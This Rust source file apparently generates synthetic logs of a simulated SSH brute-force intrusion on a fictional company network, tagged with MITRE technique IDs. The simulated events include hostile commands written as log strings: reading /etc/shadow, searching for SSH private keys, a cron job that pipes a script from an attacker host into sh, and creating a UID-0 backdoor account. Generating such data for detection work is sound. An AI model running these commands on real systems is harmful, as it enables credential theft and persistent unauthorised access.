use crate::Kind;
use crate::attacks::new_attacker;
use crate::company::HostId;
use crate::devices::firewall::Flow;
use crate::stage::{Plot, Stage, pri};

const GUESSES: [&str; 24] = [
    "root",
    "admin",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "git",
    "user",
    "ftpuser",
    "pi",
    "jenkins",
    "hadoop",
    "mysql",
    "nagios",
    "www",
    "support",
    "guest",
    "ec2-user",
    "tomcat",
    "zabbix",
    "minecraft",
    "steam",
    "demo",
    "centos",
];

/// Guesses until one fits, becomes root, makes a way back in.
pub(crate) fn brute_force(stage: &mut Stage, start: f64) {
    let from = new_attacker(stage);
    let host = *stage.dice.pick(&stage.company.linux());
    let user =
        stage.dice.pick(&["deploy", "backup", "webadmin", "svc-report", "ansible"]).to_string();
    let plot = Plot {
        kind: Kind::SshBruteForce,
        attackers: vec![from],
        victim: stage.company.name(host),
        class: "brute_force",
        techniques: &["T1110.001", "T1078", "T1021.004", "T1548.003", "T1098", "T1053.003"],
    };
    stage.tell(plot, |stage| {
        let mut at = start;
        let pace = stage.dice.range(0.8..=7.0);
        for _ in 0..stage.dice.range(30..=110) {
            at += pace * stage.dice.range(0.5..=1.5);
            if stage.dice.chance(0.3) {
                stage.ssh_failed(at, host, (&user, from), true);
            } else {
                let name = *stage.dice.pick(&GUESSES);
                stage.ssh_failed(at, host, (name, from), name == "root");
            }
            if stage.dice.chance(0.1) {
                let to = stage.company.address(host);
                stage.flow_allowed(
                    at,
                    Flow { from, to, port: 22, sent: 2_800, received: 3_400, duration: 3 },
                );
            }
        }
        at += pace;
        let pid = stage.ssh_login(at, host, (&user, from), "password");
        at = take_over(stage, at, host, &user);
        stage.ssh_logout(at + 120.0, host, (&user, pid));
    });
}

fn take_over(stage: &mut Stage, start: f64, host: HostId, user: &str) -> f64 {
    let mut at = start;
    let mut commands = vec![
        "/usr/bin/id",
        "/usr/bin/cat /etc/shadow",
        "/usr/bin/find / -name id_rsa",
        "/bin/bash",
    ];
    stage.dice.shuffle(&mut commands);
    for command in commands.into_iter().take(3) {
        at += stage.dice.range(4.0..=60.0);
        stage.sudo(at, host, (user, command));
    }
    at += stage.dice.range(10.0..=90.0);
    match stage.dice.range(0..=2) {
        0 => new_account(stage, at, host, user),
        1 => {
            stage.sudo(at, host, (user, "/usr/bin/crontab /tmp/.c"));
            let tag = format!("crontab[{}]", stage.dice.pid());
            stage.log(at + 0.1, host, pri(9, 6), (&tag, "(root) REPLACE (root)"));
            let server = new_attacker(stage);
            let job = format!("curl -fsSL http://{server}/{}.sh | sh", stage.dice.hex(4));
            for run in 1..=4u8 {
                stage.cron(at + 300.0 * f64::from(run), host, ("root", &job));
            }
        }
        _ => {
            stage.sudo(at, host, (user, "/usr/bin/tee -a /root/.ssh/authorized_keys"));
            stage.sudo(at + 8.0, host, (user, "/usr/bin/systemctl enable --now dbus-sync.service"));
            stage.systemd(at + 9.0, host, "Started dbus-sync.service - D-Bus Synchronisation.");
        }
    }
    at
}

fn new_account(stage: &mut Stage, at: f64, host: HostId, user: &str) {
    let name = *stage.dice.pick(&["sysupd", "support2", "dbus-d", "ftpd"]);
    stage.sudo(at, host, (user, &format!("/usr/sbin/useradd -o -u 0 -m {name}")));
    let tag = format!("useradd[{}]", stage.dice.pid());
    let text = format!(
        "new user: name={name}, UID=0, GID=0, home=/home/{name}, shell=/bin/bash, from=/dev/pts/1"
    );
    stage.log(at + 0.2, host, pri(10, 6), (&tag, &text));
    let tag = format!("passwd[{}]", stage.dice.pid());
    let text = format!("pam_unix(passwd:chauthtok): password changed for {name}");
    stage.log(at + 12.0, host, pri(10, 5), (&tag, &text));
}
